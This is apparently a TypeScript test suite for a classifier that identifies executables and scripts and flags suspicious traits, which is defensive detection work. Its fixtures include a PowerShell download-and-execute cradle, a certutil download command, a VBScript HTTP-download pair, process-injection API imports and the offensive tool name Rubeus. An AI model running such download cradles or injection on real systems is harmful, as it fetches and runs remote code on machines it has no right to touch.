import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { test } from 'node:test';
import fc from 'fast-check';
import { binaryAnalyzers, classifyFile, openBinarySink } from '../src/analyze/binaries/index.js';
import type { BinaryFact } from '../src/analyze/findings.js';
import { BUILDINFO_MAGIC } from '../src/analyze/packages/golang/buildinfo.js';
import { buildTestPe } from './binaries-pe-fixtures.js';
import { buildElf, buildMachO } from './support/synthetic-executables.js';

const text = (s: string) => Buffer.from(s, 'latin1');

function one(path: string, content: Buffer, chunk?: number): BinaryFact {
  const facts = classifyFile(path, content, chunk);
  assert.equal(facts.length, 1, `${path}: one fact, got ${JSON.stringify(facts)}`);
  return facts[0]!;
}

/** Inline (Go >= 1.18) build info: magic, pointer size 8, flags 2, then the version string. */
function goBuildInfo(version: string): Buffer {
  const header = Buffer.alloc(32);
  BUILDINFO_MAGIC.copy(header, 0);
  header[14] = 8;
  header[15] = 2;
  return Buffer.concat([header, Buffer.from([version.length]), text(version), Buffer.from([0])]);
}

const elfCases: { name: string; elf: Buffer; language: string; check?: (f: BinaryFact) => void }[] = [
  {
    name: 'plain C',
    elf: buildElf({ segments: [{ vaddr: 0x400000, data: Buffer.alloc(256), executable: true }] }),
    language: 'c',
  },
  {
    name: 'Go build ID note',
    elf: buildElf({
      segments: [{ vaddr: 0x400000, data: Buffer.alloc(64), executable: true }],
      goBuildId: 'abc/def',
    }),
    language: 'go',
  },
  {
    name: 'Go build info section, with version',
    elf: buildElf({
      segments: [
        { vaddr: 0x400000, data: Buffer.alloc(64), executable: true },
        { vaddr: 0x500000, data: goBuildInfo('go1.22.5'), section: '.go.buildinfo' },
      ],
    }),
    language: 'go',
    check: (f) => assert.equal(f.details?.goVersion, 'go1.22.5', 'Go version read'),
  },
  {
    name: 'Rust .rustc section',
    elf: buildElf({ segments: [{ vaddr: 0x400000, data: Buffer.alloc(64), section: '.rustc' }] }),
    language: 'rust',
  },
  {
    name: 'Rust .comment',
    elf: buildElf({
      segments: [{ vaddr: 0x400000, data: Buffer.alloc(64), executable: true }],
      extraSections: [{ name: '.comment', data: text('GCC: (GNU) 12\0rustc version 1.80.0\0') }],
    }),
    language: 'rust',
    check: (f) => assert.match(String(f.details?.compiler), /rustc version 1\.80\.0/, 'compiler shown'),
  },
  {
    name: 'Rust std path string',
    elf: buildElf({
      segments: [
        {
          vaddr: 0x400000,
          data: text('x/rustc/0123456789abcdef/library/core/src/panicking.rs'),
          executable: true,
        },
      ],
    }),
    language: 'rust',
  },
  {
    name: '.NET apphost',
    elf: buildElf({
      segments: [{ vaddr: 0x400000, data: text('\0libhostfxr.so\0app.dll\0'), executable: true }],
    }),
    language: 'dotnet',
  },
  {
    name: 'PyInstaller bootloader',
    elf: buildElf({ segments: [{ vaddr: 0x400000, data: text('\0_MEIPASS2\0'), executable: true }] }),
    language: 'python',
    check: (f) => assert.equal(f.details?.packer, 'pyinstaller', 'packer named'),
  },
  {
    name: 'unstripped (has .symtab)',
    elf: buildElf({
      segments: [{ vaddr: 0x400000, data: Buffer.alloc(64), executable: true }],
      extraSections: [{ name: '.symtab', data: Buffer.alloc(48) }],
    }),
    language: 'c',
    check: (f) => assert.equal(f.details?.stripped, false, 'not stripped'),
  },
  {
    name: '32-bit big-endian',
    elf: buildElf({ is64: false, bigEndian: true, segments: [{ vaddr: 0x10000, data: Buffer.alloc(64) }] }),
    language: 'c',
    check: (f) => assert.equal(f.arch, 'i386', 'machine 3 is i386 whatever the byte order'),
  },
];

for (const c of elfCases) {
  test(`binaries: ELF ${c.name} → ${c.language}`, () => {
    const f = one('usr/bin/x', c.elf);
    assert.equal(f.format, 'elf', 'format');
    assert.equal(f.language, c.language, `language of ${c.name}: ${JSON.stringify(f)}`);
    assert.equal(f.platform, 'linux', 'platform');
    assert.equal(f.sha256, createHash('sha256').update(c.elf).digest('hex'), 'sha256 of the whole file');
    c.check?.(f);
    // Any chunking gives the same fact.
    assert.deepEqual(one('usr/bin/x', c.elf, 7), f, 'same fact in 7-byte chunks');
  });
}

test('binaries: ELF machine, OS ABI, static/dynamic and UPX are read from the headers', () => {
  const elf = buildElf({ segments: [{ vaddr: 0x400000, data: text('\0\0UPX!\0\0'), executable: true }] });
  elf.writeUInt16LE(183, 18);
  elf[7] = 9;
  const f = one('opt/x', elf);
  assert.equal(f.arch, 'aarch64', 'arch');
  assert.equal(f.platform, 'freebsd', 'platform from OS ABI');
  assert.equal(f.details?.linking, 'static', 'no interpreter, no dynamic section');
  assert.equal(f.details?.pie, false, 'ET_EXEC');
  assert.equal(f.details?.packer, 'upx', 'UPX! magic near the start');
});

const peCases: {
  name: string;
  pe: Buffer;
  language: string;
  platform?: string;
  check?: (f: BinaryFact) => void;
}[] = [
  { name: 'native C', pe: buildTestPe(), language: 'c' },
  { name: 'Go', pe: buildTestPe({ goBuildId: 'x/y' }), language: 'go' },
  {
    name: '.NET IL-only with offensive names',
    pe: buildTestPe({ clr: { identifiers: ['<Module>', 'Rubeus', 'Rubeus.Commands', 'Main'] }, dll: true }),
    language: 'dotnet',
    check: (f) => {
      assert.deepEqual(f.details?.offensiveNames, ['Rubeus'], 'names from #Strings');
      assert.deepEqual(f.details?.dotnet, { ilOnly: true, runtimeVersion: 'v4.0.30319' }, 'CLR details');
      assert.equal(f.details?.kind, 'dll', 'DLL flag');
    },
  },
  {
    name: 'imports of an injection set',
    pe: buildTestPe({
      imports: {
        dll: 'KERNEL32.dll',
        functions: ['VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread', 'lstrlenA'],
      },
    }),
    language: 'c',
    check: (f) => {
      assert.deepEqual(
        f.details?.imports,
        ['CreateRemoteThread', 'VirtualAllocEx', 'WriteProcessMemory'],
        'watched imports',
      );
      assert.deepEqual(f.details?.dlls, ['kernel32.dll'], 'DLL names');
    },
  },
  {
    name: 'UPX sections',
    pe: buildTestPe({ sectionNames: ['UPX0', 'UPX1'] }),
    language: 'c',
    check: (f) => assert.equal(f.details?.packer, 'upx', 'packer'),
  },
  { name: 'EFI application', pe: buildTestPe({ subsystem: 10 }), language: 'c', platform: 'uefi' },
  {
    name: 'signed',
    pe: buildTestPe({ signed: true }),
    language: 'c',
    check: (f) => assert.equal(f.details?.signed, true, 'certificate table'),
  },
];

for (const c of peCases) {
  test(`binaries: PE ${c.name} → ${c.language}`, () => {
    const f = one('app/x.bin', c.pe);
    assert.equal(f.format, 'pe', 'format');
    assert.equal(f.language, c.language, `language: ${JSON.stringify(f)}`);
    assert.equal(f.platform, c.platform ?? 'windows', 'platform');
    assert.equal(f.arch, 'x86_64', 'arch');
    c.check?.(f);
    assert.deepEqual(one('app/x.bin', c.pe, 13), f, 'same fact in 13-byte chunks');
  });
}

test('binaries: MZ without a PE header is not a binary', () => {
  const dos = Buffer.concat([text('MZ'), Buffer.alloc(200)]);
  assert.deepEqual(classifyFile('x.com', dos), [], 'DOS stub only');
});

test('binaries: Mach-O thin (C, Go, Swift) and universal', () => {
  const seg = (sections: { name: string; data: Buffer }[]) => ({
    segname: '__TEXT',
    vaddr: 0x100000000,
    sections,
    executable: true,
  });
  const c = one('x', buildMachO({ segments: [seg([{ name: '__text', data: Buffer.alloc(32) }])] }));
  assert.deepEqual([c.format, c.language, c.platform, c.arch], ['macho', 'c', 'darwin', 'x86_64'], 'thin C');
  const go = one(
    'x',
    buildMachO({ segments: [seg([{ name: '__text', data: text('\xff Go build ID: "a/b"\n \xff') }])] }),
  );
  assert.equal(go.language, 'go', 'Go build ID string');
  const swift = one(
    'x',
    buildMachO({ segments: [seg([{ name: '__swift5_types', data: Buffer.alloc(16) }])] }),
  );
  assert.equal(swift.language, 'swift', 'Swift metadata section');

  const thin = buildMachO({ segments: [seg([{ name: '__text', data: Buffer.alloc(32) }])] });
  const fat = Buffer.alloc(0x1000 + thin.length);
  fat.writeUInt32BE(0xcafebabe, 0);
  fat.writeUInt32BE(2, 4);
  [0x01000007, 0x0100000c].forEach((cpu, i) => {
    fat.writeUInt32BE(cpu, 8 + i * 20);
    fat.writeUInt32BE(0x1000, 16 + i * 20);
    fat.writeUInt32BE(thin.length, 20 + i * 20);
  });
  thin.copy(fat, 0x1000);
  const u = one('x', fat);
  assert.equal(u.arch, 'universal', 'two slices');
  assert.deepEqual(u.details?.slices, ['x86_64', 'aarch64'], 'slice arches');
  // A Java class file has the same magic with a large "count": not Mach-O.
  const klass = Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52, 0, 0, 0, 0]);
  assert.deepEqual(classifyFile('A.class', klass), [], 'class file is not Mach-O');
});

const scriptCases: {
  path: string;
  content: string | Buffer;
  language?: string;
  platform?: string;
  cradles?: string[];
}[] = [
  {
    path: 'usr/bin/tool',
    content: '#!/usr/bin/env python3\nprint(1)\n',
    language: 'python',
    platform: 'any',
  },
  { path: 'usr/bin/tool', content: '#!/bin/sh\necho hi\n', language: 'shell', platform: 'any' },
  { path: 'usr/bin/tool', content: '#! /usr/bin/perl -w\n', language: 'perl' },
  { path: 'usr/bin/tool', content: '#!/usr/bin/env -S node --no-warnings\n', language: 'node' },
  { path: 'usr/bin/tool', content: '#!/bin/busybox sh\n', language: 'shell' },
  { path: 'usr/bin/tool', content: '#!/usr/bin/ruby3.1\n', language: 'ruby' },
  { path: 'usr/bin/tool', content: '#!/usr/bin/php8.2\n', language: 'php' },
  {
    path: 'usr/bin/tool',
    content: '#!/usr/bin/pwsh\nWrite-Host hi\n',
    language: 'powershell',
    platform: 'any',
  },
  { path: 'usr/bin/tool', content: '#!/opt/weird/interp\n', language: 'unknown' },
  { path: 'src/lib.rs', content: '#![allow(dead_code)]\nfn main() {}\n' },
  { path: 'notes.md', content: '#!important note\n' },
  { path: 'scripts/setup.ps1', content: 'Write-Host "setup"\n', language: 'powershell', platform: 'windows' },
  { path: 'scripts/run.BAT', content: '@echo off\r\necho hi\r\n', language: 'batch', platform: 'windows' },
  { path: 'scripts/x.vbs', content: 'MsgBox "hi"\n', language: 'vbscript', platform: 'windows' },
  {
    path: 'scripts/x.js',
    content: 'var sh = WScript.CreateObject("WScript.Shell");\n',
    language: 'jscript',
    platform: 'windows',
  },
  { path: 'app/jquery.js', content: 'xhr = new window.ActiveXObject("Microsoft.XMLHTTP");\n' },
  {
    path: 'scripts/x.ps1',
    content: Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://192.0.2.1/a")', 'utf16le'),
    ]),
    language: 'powershell',
    cradles: ['ps-download-execute'],
  },
  {
    path: 'scripts/dl.bat',
    content: 'certutil -urlcache -split -f http://example.test/a.exe a.exe\r\n',
    language: 'batch',
    cradles: ['bat-certutil-download'],
  },
  {
    path: 'scripts/dl.vbs',
    content: 'Set x = CreateObject("MSXML2.XMLHTTP")\nSet s = CreateObject("ADODB.Stream")\n',
    language: 'vbscript',
    cradles: ['wsh-http-run'],
  },
  { path: 'scripts/bin.ps1', content: Buffer.from([0x00, 0x01, 0x02, 0x00, 0x41, 0x42]) },
  { path: 'image.exe', content: 'just text, named like a program\n' },
];

for (const c of scriptCases) {
  test(`binaries: script ${c.path} ${JSON.stringify(String(c.content).slice(0, 30))} → ${c.language ?? 'nothing'}`, () => {
    const content = Buffer.isBuffer(c.content) ? c.content : Buffer.from(c.content);
    const facts = classifyFile(c.path, content, 5);
    if (!c.language) {
      assert.deepEqual(facts, [], 'not a script');
      return;
    }
    assert.equal(facts.length, 1, 'one fact');
    const f = facts[0]!;
    assert.equal(f.format, 'script', 'format');
    assert.equal(f.language, c.language, 'language');
    if (c.platform) assert.equal(f.platform, c.platform, 'platform');
    assert.equal(f.sha256, createHash('sha256').update(content).digest('hex'), 'sha256');
    assert.deepEqual(f.details?.cradles, c.cradles, 'cradles');
  });
}

test('binaries: content decides, not the name (an ELF named .txt)', () => {
  const f = one('docs/readme.txt', buildElf({ segments: [{ vaddr: 0x400000, data: Buffer.alloc(64) }] }));
  assert.equal(f.format, 'elf', 'ELF by magic');
});

test('binaries: the analyzer wants every regular file of 4 bytes or more, as a stream', () => {
  const a = binaryAnalyzers[0]!;
  const h = (type: 'file' | 'dir' | 'symlink', size: number) => ({
    path: 'a/b',
    type,
    mode: 0o644,
    size,
    uid: 0,
    gid: 0,
  });
  assert.deepEqual(a.wants(h('file', 10)), { mode: 'stream' }, 'file');
  assert.equal(a.wants(h('file', 3)), false, 'too small');
  assert.equal(a.wants(h('dir', 0)), false, 'directory');
  assert.equal(a.wants(h('symlink', 0)), false, 'symlink');
});

test(
  'binaries: real ELF from this machine: /usr/bin/ls is C, linux, x86_64',
  { skip: process.arch !== 'x64' },
  () => {
    const f = one('usr/bin/ls', readFileSync('/usr/bin/ls'));
    assert.deepEqual(
      [f.format, f.language, f.platform, f.arch],
      ['elf', 'c', 'linux', 'x86_64'],
      JSON.stringify(f),
    );
    assert.equal(f.details?.libc, 'glibc', 'glibc interpreter');
  },
);

for (const go of ['/usr/bin/skopeo', '/usr/bin/docker-registry']) {
  test(`binaries: real Go binary ${go}`, { skip: !existsSync(go) || process.arch !== 'x64' }, () => {
    const f = one(go.slice(1), readFileSync(go), 1 << 20);
    assert.deepEqual(
      [f.format, f.language, f.platform, f.arch],
      ['elf', 'go', 'linux', 'x86_64'],
      JSON.stringify(f),
    );
    assert.match(String(f.details?.goVersion), /^go1\./, 'Go version');
  });
}

test('binaries: hostile headers give a fact or nothing, never a throw', () => {
  const base = buildElf({ segments: [{ vaddr: 0x400000, data: Buffer.alloc(64) }] });
  const lies: [string, (b: Buffer) => void][] = [
    ['section table past the end', (b) => b.writeBigUInt64LE(0xffffffffn, 40)],
    ['huge section count', (b) => b.writeUInt16LE(0xffff, 60)],
    ['huge program header count', (b) => b.writeUInt16LE(0xffff, 56)],
    ['program headers past the end', (b) => b.writeBigUInt64LE(0x7fffffffn, 32)],
    ['string table index out of range', (b) => b.writeUInt16LE(0xfff0, 62)],
  ];
  for (const [name, lie] of lies) {
    const b = Buffer.from(base);
    lie(b);
    const facts = classifyFile('x', b, 11);
    assert.ok(facts.length <= 1, `${name}: at most one fact`);
  }
  for (let cut = 0; cut < 200; cut += 3) {
    assert.ok(Array.isArray(classifyFile('x', base.subarray(0, cut))), `ELF cut at ${cut}`);
    assert.ok(
      Array.isArray(classifyFile('x', buildTestPe({ clr: { identifiers: ['A'] } }).subarray(0, cut * 7))),
      `PE cut at ${cut * 7}`,
    );
  }
});

test('binaries: property: random bytes after an executable magic never throw', () => {
  const magics = [
    [0x7f, 0x45, 0x4c, 0x46, 2, 1, 1],
    [0x7f, 0x45, 0x4c, 0x46, 1, 2, 1],
    [0x4d, 0x5a],
    [0xcf, 0xfa, 0xed, 0xfe],
    [0xfe, 0xed, 0xfa, 0xce],
    [0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 3],
    [0x23, 0x21],
  ];
  fc.assert(
    fc.property(
      fc.constantFrom(...magics),
      fc.uint8Array({ maxLength: 4096 }),
      fc.integer({ min: 1, max: 600 }),
      (magic, rest, chunk) => {
        const facts = classifyFile('f', Buffer.concat([Buffer.from(magic), rest]), chunk);
        JSON.stringify(facts);
        return facts.length <= 1;
      },
    ),
    { numRuns: 400 },
  );
});

test('binaries: a large executable streams in bounded memory', () => {
  const head = buildElf({ segments: [{ vaddr: 0x400000, data: Buffer.alloc(64) }] });
  const size = 256 * 1024 * 1024;
  const sink = openBinarySink({ path: 'big', type: 'file', mode: 0o755, size, uid: 0, gid: 0 });
  const zeros = Buffer.alloc(1 << 20);
  const before = process.memoryUsage().arrayBuffers;
  sink.write(Buffer.concat([head, zeros.subarray(head.length)]));
  for (let sent = zeros.length; sent < size; sent += zeros.length) sink.write(zeros);
  const grew = process.memoryUsage().arrayBuffers - before;
  const facts = sink.end() as BinaryFact[];
  assert.equal(facts.length, 1, 'classified');
  assert.ok(grew < 32 * 1024 * 1024, `held ${grew} bytes while streaming 256 MiB`);
});
